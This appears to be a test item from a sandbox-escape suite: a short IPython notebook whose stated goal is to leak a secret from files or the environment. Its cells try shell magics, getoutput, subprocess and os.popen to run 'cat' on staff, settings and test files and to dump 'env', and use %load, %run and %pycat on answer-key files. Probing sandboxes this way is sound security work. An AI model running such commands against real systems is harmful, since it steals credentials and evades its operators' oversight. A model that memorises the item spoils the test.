# title: IPython's magics for files, shells and other interpreters
# success: a secret of a file or of the environment in the note or in what a cell prints
# keeps: nothing

# %%
shell = get_ipython()
found = set()
for line in (f"cat {MAP['staff']}", "env", f"cat {MAP['settings']} {MAP['tests']}/*.py"):
    for call in ("getoutput", "system", "system_raw", "system_piped"):
        found |= secrets_in(repr(tried(getattr(shell, call), line)).encode())
    for magic in ("sx", "system", "!"):
        found |= secrets_in(repr(tried(shell.run_line_magic, magic, line)).encode())
    for magic in ("bash", "sh", "script", "sx", "!"):
        found |= secrets_in(repr(tried(shell.run_cell_magic, magic, "--out text" if magic in ("bash", "sh") else "", line)).encode())
say(found | secrets_in(repr(shell.user_ns.get("text")).encode()))

# %%
import os, subprocess

for command in (["cat", MAP["staff"]], ["env"], ["cat", MAP["settings"]], ["/bin/sh", "-c", f"cat {MAP['place']}/source/*"]):
    done = tried(subprocess.run, command, capture_output=True)
    found |= secrets_in(done.stdout) if done else set()
    stream = tried(os.popen, " ".join(command))
    found |= secrets_in((tried(stream.read) or "").encode()) if stream else set()
say(found)

# %%
%load /etc/hostname

# %%
for magic, line in (("load", MAP["tests"] + "/q4.py"), ("run", MAP["tests"] + "/q4.py"), ("pycat", MAP["staff"]), ("pfile", "os"), ("loadpy", MAP["settings"])):
    tried(shell.run_line_magic, magic, line)
say(secrets_in(repr({k: v for k, v in shell.user_ns.items() if k.startswith("_STAMP")}).encode()) | secrets_in(repr(shell.rl_next_input if hasattr(shell, "rl_next_input") else "").encode()))
